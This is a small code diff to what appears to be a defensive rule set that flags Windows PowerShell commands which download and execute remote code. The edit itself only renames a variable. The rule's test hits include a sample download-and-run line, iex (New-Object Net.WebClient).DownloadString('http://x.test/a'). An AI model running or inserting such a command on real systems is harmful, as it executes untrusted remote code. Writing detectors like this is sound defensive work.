@@ -40,8 +40,8 @@ export const windowsRules: readonly CommandRule[] = [
           text,
         );
       if (/^\.?download(?:string|data|file)$/i.test(command.program)) return true;
-      const is_run = /^(?:iex|invoke-expression)$/.test(command.previous?.name ?? '');
-      return is_run && /^(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)$/.test(command.name);
+      const isRun = /^(?:iex|invoke-expression)$/.test(command.previous?.name ?? '');
+      return isRun && /^(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)$/.test(command.name);
     },
     hits: [
       "iex (New-Object Net.WebClient).DownloadString('http://x.test/a')",
